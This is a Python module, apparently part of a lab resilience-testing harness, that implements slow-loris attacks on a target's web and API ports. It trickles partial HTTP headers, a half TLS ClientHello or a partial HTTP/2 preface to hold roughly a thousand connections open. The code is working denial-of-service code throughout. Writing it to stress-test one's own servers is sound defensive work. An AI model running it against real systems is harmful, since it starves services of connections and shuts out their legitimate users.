"""Connections that never say what they want.

Must not need anything that a stranger does not have.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import ssl
import time
from dataclasses import dataclass, field
from statistics import median
from urllib.parse import urlsplit

from federation.runtime.addresses import Address, parse_address
from lab.attack.attack import GOALS, Attack
from lab.attack.target import Target

CONNECTIONS = 1_100
HELD_SECONDS = 15.0
DRIP_SECONDS = 1.0
CONNECT_SECONDS = 5.0
RECEIVE_BYTES = 65_536
# Of those wanted, at the end of most seconds. In some the server ends those that are late.
LEAST_HELD = 0.9


@dataclass(slots=True)
class Dripped:
    """How many connections were made, and how many were open at the end of each second."""

    made: int = 0
    held: list[int] = field(default_factory=list)


def slow_loris_on_the_web_port(target: Target, force: float) -> None:
    """The server ends the oldest, so that few are held; it would prove nothing if none came."""
    address = parse_address(urlsplit(target.web).netloc)
    wanted = int(CONNECTIONS * force)
    dripped = drip(address, b"GET /readyz HTTP/1.1\r\n", b"x: y\r\n", wanted, HELD_SECONDS * force)
    assert dripped.made >= wanted, dripped


def slow_loris_on_the_api_port(target: Target, force: float) -> None:
    """Half a handshake: over TLS part of a hello, in plain text part of the preface."""
    address = parse_address(target.endpoint)
    wanted = int(CONNECTIONS * force)
    # Nothing within a record is read before all of it is there.
    opening, drop = (b"PRI * HTTP/2", b"") if target.ca is None else (half_client_hello(), b"\0")
    dripped = drip(address, opening, drop, wanted, HELD_SECONDS * force)
    assert median(dripped.held) >= LEAST_HELD * wanted, dripped


def half_client_hello() -> bytes:
    """Its record says how much is to come; a drop a second for minutes does not make it whole."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = ssl.create_default_context().wrap_bio(
        incoming, outgoing, server_hostname="localhost"
    )
    with contextlib.suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    hello = outgoing.read()
    return hello[: len(hello) // 2]


def drip(address: Address, opening: bytes, drop: bytes, wanted: int, seconds: float) -> Dripped:
    """Holds connections open by saying a little now and then; the lost ones are made anew."""
    until = time.monotonic() + seconds
    dripped, held = Dripped(), list[socket.socket]()
    with selectors.DefaultSelector() as selector:
        try:
            while time.monotonic() < until:
                while len(held) < wanted and time.monotonic() < until:
                    try:
                        made = socket.create_connection(
                            (address.host, address.port), CONNECT_SECONDS
                        )
                        made.sendall(opening)
                    except OSError:
                        break
                    made.setblocking(False)
                    selector.register(made, selectors.EVENT_READ)
                    held.append(made)
                    dripped.made += 1
                for each in [*held]:
                    try:
                        each.sendall(drop)
                    except OSError:
                        _drop(each, held, selector)
                time.sleep(DRIP_SECONDS)
                for key, _ in selector.select(0):
                    assert isinstance(key.fileobj, socket.socket)
                    if _is_over(key.fileobj):
                        _drop(key.fileobj, held, selector)
                dripped.held.append(len(held))
        finally:
            for each in held:
                each.close()
    return dripped


def _is_over(each: socket.socket) -> bool:
    try:
        return not each.recv(RECEIVE_BYTES)
    except OSError:
        return True


def _drop(each: socket.socket, held: list[socket.socket], selector: selectors.BaseSelector) -> None:
    with contextlib.suppress(KeyError):
        selector.unregister(each)
    each.close()
    held.remove(each)


ATTACKS = (
    Attack(name="slow-loris on the web port", run=slow_loris_on_the_web_port, goals=GOALS),
    Attack(name="slow-loris on the API port", run=slow_loris_on_the_api_port, goals=GOALS),
)
